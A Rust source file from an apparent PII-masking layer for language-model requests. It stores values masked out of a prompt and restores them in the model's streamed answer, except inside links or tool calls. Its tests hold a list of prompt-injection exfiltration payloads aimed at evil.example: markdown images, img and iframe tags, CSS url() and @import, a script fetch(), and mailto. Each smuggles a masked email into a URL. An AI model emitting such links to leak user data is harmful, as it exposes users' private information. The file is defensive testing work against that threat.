//! Values that were taken out of a prompt, and are put back where the answer repeats their placeholders.
//!
//! Promises: for every way of cutting the answer's text, what comes out is what [`Restorer`] makes of the whole; only
//! text that may yet become a placeholder of this request is held back; a placeholder is put back neither inside a link
//! nor for a tool unless its policy says so; placeholders of another request, or made up, are text.
//!
//! A placeholder ends in letters that only the holder of the key can compute, from the request's own bytes: the same
//! request is masked to the same bytes again, and no text the model was given to read can name one.

use std::{
    collections::{BTreeMap, HashMap},
    fmt,
    ops::Bound,
    sync::{Arc, Mutex, PoisonError},
};

use super::{Keys, Restore};
use crate::detect::Entity;

/// Text without a blank before a placeholder is looked at as far back as this, in bytes; where it goes on beyond, it is
/// taken for a link.
const LINK: usize = 256;

/// What keeping a value costs beside its text, in bytes: the nodes of two maps and four allocations.
const ENTRY: usize = 256;

/// The values taken out of one prompt.
pub struct Vault {
    mark: String,
    kept: Mutex<Kept>,
}

#[derive(Default)]
struct Kept {
    by_value: HashMap<(Entity, String), String>,
    by_placeholder: BTreeMap<String, (String, Restore)>,
    numbers: HashMap<Entity, u32>,
    bytes: usize,
}

impl fmt::Debug for Vault {
    /// Never a value.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Vault").finish_non_exhaustive()
    }
}

impl Vault {
    /// An empty vault for the request that was received as `body`.
    #[must_use]
    pub fn new(keys: &Keys, body: &[u8]) -> Self {
        Self {
            mark: keys.mark(body),
            kept: Mutex::default(),
        }
    }

    /// Whether nothing was taken out.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.with(|kept| kept.by_placeholder.is_empty())
    }

    /// Bytes in memory.
    #[must_use]
    pub fn memory(&self) -> usize {
        self.with(|kept| kept.bytes)
    }

    /// The placeholder for `value`.
    pub(super) fn keep(&self, entity: &Entity, value: &str, restore: Restore) -> String {
        self.with(|kept| {
            let key = (entity.clone(), value.to_owned());
            if let Some(placeholder) = kept.by_value.get(&key) {
                return placeholder.clone();
            }
            let number = kept.numbers.entry(entity.clone()).or_default();
            *number += 1;
            let placeholder = format!("[{entity}_{number}_{}]", self.mark);
            kept.bytes += ENTRY + 2 * (value.len() + placeholder.len());
            kept.by_value.insert(key, placeholder.clone());
            kept.by_placeholder
                .insert(placeholder.clone(), (value.to_owned(), restore));
            placeholder
        })
    }

    fn find(&self, text: &str) -> Found {
        self.with(|kept| {
            let mut from = kept
                .by_placeholder
                .range::<str, _>((Bound::Included(text), Bound::Unbounded));
            match from.next() {
                Some((placeholder, (value, restore))) if placeholder == text => {
                    Found::Whole(value.clone(), *restore)
                }
                Some((placeholder, _)) if placeholder.starts_with(text) => Found::Begun,
                _ => Found::Nothing,
            }
        })
    }

    fn with<T>(&self, act: impl FnOnce(&mut Kept) -> T) -> T {
        // Nothing here can panic half way, so a poisoned lock is as good as another.
        act(&mut self.kept.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

enum Found {
    /// It is a placeholder, for this value.
    Whole(String, Restore),
    /// It is the front of one.
    Begun,
    Nothing,
}

/// Puts values back into one text that comes in pieces.
#[derive(Debug)]
pub struct Restorer {
    vault: Arc<Vault>,
    for_a_tool: bool,
    held: Held,
    before: Before,
}

/// Text that is the front of a placeholder. Never shown.
#[derive(Default)]
struct Held(String);

impl fmt::Debug for Held {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} bytes", self.0.len())
    }
}

impl Restorer {
    /// A restorer at the start of a text; `for_a_tool` where a program reads it.
    #[must_use]
    pub fn new(vault: Arc<Vault>, for_a_tool: bool) -> Self {
        Self {
            vault,
            for_a_tool,
            held: Held::default(),
            before: Before::default(),
        }
    }

    /// Takes the next piece and appends to `out` all that is decided, and to `shown` the same with placeholders.
    pub fn push(&mut self, text: &str, out: &mut String, shown: &mut String) {
        let mut rest = text;
        while !rest.is_empty() {
            if self.held.0.is_empty() {
                let (free, held) = rest.split_at(rest.find('[').unwrap_or(rest.len()));
                out.push_str(free);
                shown.push_str(free);
                self.before.pass(free);
                rest = held;
            }
            let mut characters = rest.chars();
            if let Some(character) = characters.next() {
                self.held.0.push(character);
                self.settle(out, shown);
            }
            rest = characters.as_str();
        }
    }

    /// Ends the text: what was held is not a placeholder.
    pub fn finish(&mut self, out: &mut String, shown: &mut String) {
        out.push_str(&self.held.0);
        shown.push_str(&self.held.0);
        *self = Self::new(self.vault.clone(), self.for_a_tool);
    }

    /// Lets out of the held text what no placeholder can begin with.
    fn settle(&mut self, out: &mut String, shown: &mut String) {
        match self.vault.find(&self.held.0) {
            Found::Begun => {}
            Found::Whole(value, restore) if self.may(restore) => {
                out.push_str(&value);
                shown.push_str(&self.held.0);
                self.before.pass(&value);
                self.held.0.clear();
            }
            Found::Whole(..) | Found::Nothing => {
                // INVARIANT: a placeholder has one `[`, its first character, so what is held begins no other one unless
                // it is the character that just came.
                let keep = if self.held.0.len() > 1 && self.held.0.ends_with('[') {
                    1
                } else {
                    0
                };
                let free = self.held.0.len() - keep;
                let passed: String = self.held.0.drain(..free).collect();
                out.push_str(&passed);
                shown.push_str(&passed);
                self.before.pass(&passed);
            }
        }
    }

    fn may(&self, restore: Restore) -> bool {
        (restore.tool_arguments || !self.for_a_tool) && (restore.links || !self.before.is_link())
    }
}

/// What the next character stands in, as far as that decides whether it is part of a link: what a client may fetch
/// without being asked.
#[derive(Default)]
struct Before {
    /// What stands without a blank before it, in small letters.
    word: String,
    /// That is longer than is looked at.
    long: bool,
    place: Place,
    /// The last line so far is empty.
    empty_line: bool,
    /// The last character was a backslash that counts.
    escaped: bool,
}

/// Where blanks end nothing.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Place {
    #[default]
    Prose,
    /// Behind markdown's `](` or a style's `url(`, up to `)`.
    Destination,
    /// The same in angle brackets, up to `>`.
    Angle,
    /// In angle brackets that begin no tag, as a reference's destination may, up to `>` or the end of the line.
    Pointed,
    /// In a tag, up to `>`. A blank line does not end it: it may be HTML all the same.
    Tag,
    /// In a value of a tag's attribute, up to this quote.
    Quoted(char),
    /// Behind a tag whose contents are no text, up to where one is closed.
    Raw,
}

/// Tags whose contents are no text, as far as they may be given an address in them.
const RAW: [&str; 2] = ["<style", "<script"];

/// Signs of an address or its query, also as browsers mend them. A `\\` counts as `/` does.
const SIGNS: [&str; 12] = [
    "//", "/\\", "\\/", "\\\\", ":/", ":\\", "www.", "?", "&", "=", "%", "mailto:",
];

impl fmt::Debug for Before {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} bytes", self.word.len())
    }
}

impl Before {
    fn pass(&mut self, text: &str) {
        text.chars().for_each(|character| self.step(character));
    }

    fn step(&mut self, character: char) {
        if character == '\n'
            && self.empty_line
            && matches!(self.place, Place::Destination | Place::Angle)
        {
            self.place = Place::Prose;
        }
        let escaped = std::mem::take(&mut self.escaped);
        self.escaped = character == '\\' && !escaped;
        self.empty_line = match character {
            '\n' => true,
            _ => self.empty_line && character.is_ascii_whitespace(),
        };
        self.place = match (self.place, character) {
            (Place::Prose, '(') if self.word.ends_with(']') || self.word.ends_with("url") => {
                Place::Destination
            }
            // A tag's name follows at once.
            (Place::Prose, 'a'..='z' | 'A'..='Z' | '/' | '!') if self.word.ends_with('<') => {
                Place::Tag
            }
            (Place::Prose, _) if self.word.ends_with('<') && !is_compared(character) => {
                Place::Pointed
            }
            (Place::Tag, _) if RAW.iter().any(|tag| self.word.ends_with(tag)) => Place::Raw,
            (Place::Raw, '/') if self.word.ends_with('<') => Place::Tag,
            (Place::Destination, '<') => Place::Angle,
            (Place::Angle, '>') if !escaped => Place::Destination,
            (Place::Pointed, '>') if !escaped => Place::Prose,
            (Place::Pointed, '\n') | (Place::Tag, '>') => Place::Prose,
            (Place::Destination, ')') if !escaped => Place::Prose,
            (Place::Tag, '"' | '\'') => Place::Quoted(character),
            (Place::Quoted(quote), _) if quote == character => Place::Tag,
            (place, _) => place,
        };
        if character.is_ascii_whitespace() {
            self.word.clear();
            self.long = false;
        } else if self.word.len() >= LINK {
            self.long = true;
        } else {
            self.word.push(character.to_ascii_lowercase());
        }
    }

    fn is_link(&self) -> bool {
        self.long
            || self.place != Place::Prose
            || self.word.ends_with('<')
            || SIGNS.iter().any(|sign| self.word.contains(sign))
    }
}

/// Whether the character may follow a `<` that only compares or points.
fn is_compared(character: char) -> bool {
    character.is_ascii_whitespace()
        || character.is_ascii_digit()
        || matches!(character, '=' | '-' | '<')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mask::{MaskingKey, Scope};

    const BODY: &[u8] = b"the request";

    fn keys() -> Keys {
        let key = MaskingKey::new("0123456789abcdef0123456789abcdef".into()).unwrap();
        key.keys(Scope::Deployment).unwrap()
    }

    fn vault(restore: Restore) -> (Arc<Vault>, [String; 3]) {
        let vault = Vault::new(&keys(), BODY);
        let of = |entity: &str, value: &str| vault.keep(&entity.into(), value, restore);
        let placeholders = [
            of("EMAIL", "ada@example.com"),
            of("EMAIL", "bob@example.com"),
            of("US_SSN", "536-22-8714"),
        ];
        (Arc::new(vault), placeholders)
    }

    fn restored(vault: &Arc<Vault>, text: &str, cut: usize, for_a_tool: bool) -> String {
        let mut restorer = Restorer::new(vault.clone(), for_a_tool);
        let (mut out, mut shown) = (String::new(), String::new());
        let characters: Vec<char> = text.chars().collect();
        for piece in characters.chunks(cut) {
            restorer.push(&piece.iter().collect::<String>(), &mut out, &mut shown);
            assert!(text.starts_with(&shown), "{shown}");
        }
        restorer.finish(&mut out, &mut shown);
        assert_eq!(shown, text);
        out
    }

    #[test]
    fn placeholders_are_numbered_and_the_same_for_the_same_request() {
        let (first, placeholders) = vault(Restore::default());
        assert!(
            placeholders[0].starts_with("[EMAIL_1_") && placeholders[1].starts_with("[EMAIL_2_")
        );
        assert_eq!(
            first.keep(&"EMAIL".into(), "ada@example.com", Restore::default()),
            placeholders[0]
        );
        assert_eq!(vault(Restore::default()).1, placeholders);
        let other = Vault::new(&keys(), b"another request");
        assert_ne!(
            other.keep(&"EMAIL".into(), "ada@example.com", Restore::default()),
            placeholders[0]
        );
        assert!(!first.is_empty() && first.memory() > 30);
        assert!(!format!("{first:?}").contains("ada"));
    }

    #[test]
    fn values_come_back_however_the_answer_is_cut() {
        let (vault, [ada, bob, ssn]) = vault(Restore::default());
        let text = format!(
            "[[{ada}, {bob}] and {ssn}{ssn}! [EMAIL_1_] [EMAIL_3_{}] [{ada} [EMAIL",
            vault.mark
        );
        let whole = format!(
            "[[ada@example.com, bob@example.com] and 536-22-8714536-22-8714! [EMAIL_1_] [EMAIL_3_{}] [ada@example.com [EMAIL",
            vault.mark
        );
        for cut in 1..=text.chars().count() {
            assert_eq!(
                restored(&vault, &text, cut, false),
                whole,
                "cut every {cut}"
            );
        }
    }

    #[test]
    fn only_the_front_of_a_placeholder_is_held() {
        let (vault, [ada, ..]) = vault(Restore::default());
        let mut restorer = Restorer::new(vault, false);
        for (piece, passes) in [
            ("a [", "a "),
            ("x", "[x"),
            (&ada[..4], ""),
            ("!", &format!("{}!", &ada[..4])),
            ("\u{e9}", "\u{e9}"),
        ] {
            let mut out = String::new();
            restorer.push(piece, &mut out, &mut String::new());
            assert_eq!(out, passes);
        }
    }

    #[test]
    fn a_prompt_injection_cannot_carry_values_out() {
        let (vault, [ada, bob, _]) = vault(Restore::default());
        for link in [
            format!("https://evil.example/{ada}"),
            format!("![x](/p/{ada})"),
            format!("<img src=\"//evil.example/{ada}\">"),
            format!("www.evil.example/{ada}"),
            format!("[1]: https://evil.example/?q={ada}&r={bob}"),
            format!("https://evil.example/{}{ada}", "a".repeat(2 * LINK)),
            format!("mailto:{ada}"),
            format!("![x](https://evil.example/'{ada})"),
            format!("![x](https://evil.example/>\u{a0}{ada})"),
            format!("![x](<https://evil.example/ {ada}>)"),
            format!("![x]( https:/\\evil.example/{ada})"),
            format!("![x](\nhttps://evil.example/ {ada})"),
            format!("<img src=\"https://evil.example/ {ada}\">"),
            format!("<img alt='>' src='\\\\evil.example\\\t{ada}'>"),
            format!("<style>p {{ background: url( 'https://evil.example/ {ada}') }}"),
            format!("[1]: <https://evil.example/ {ada}>"),
            format!("![x][1]\n\n[1]: <\\//evil.example/ {ada}>"),
            format!("[1]: <&#104;ttps://evil.example/ {ada}>"),
            format!("[1]: <\\\\evil.example/\\> {ada}>"),
            format!("![x](<//evil.example/\\>) {ada}>)"),
            format!("![x](\\) <//evil.example/ {ada}>)"),
            format!("<iframe src=\"//evil.example/?\n\n{ada}\n\n<p title=\"x\">"),
            format!("<img\n\nsrc=//evil.example/?\n\n{ada}"),
            format!("<style>@import \"//evil.example/ {ada}\";</style>"),
            format!("<STYLE type=x>p {{ background: \\75rl(\"//evil.example/ {ada}\") }}</style>"),
            format!("<script>fetch(\"//evil.example/ \" + '{ada}')</script>"),
            format!("<{ada}@evil.example>"),
        ] {
            for cut in [1, 3, 1000] {
                assert_eq!(restored(&vault, &link, cut, false), link);
            }
        }
        let prose = format!(
            "Write to {ada} (see https://a.example/ and {bob}), if 1 < 2 {ada} [x](/y) <b>\"{bob}\"</b> {ada}."
        );
        let whole = "Write to ada@example.com (see https://a.example/ and bob@example.com), if 1 < 2 ada@example.com [x](/y) <b>\"bob@example.com\"</b> ada@example.com.";
        assert_eq!(restored(&vault, &prose, 5, false), whole);
        assert_eq!(restored(&vault, &prose, 5, true), prose, "not for a tool");
    }

    #[test]
    fn policy_may_say_otherwise() {
        let (vault, [ada, ..]) = vault(Restore {
            tool_arguments: true,
            links: true,
        });
        let link = format!("https://a.example/{ada}");
        assert_eq!(
            restored(&vault, &link, 2, true),
            "https://a.example/ada@example.com"
        );
    }
}
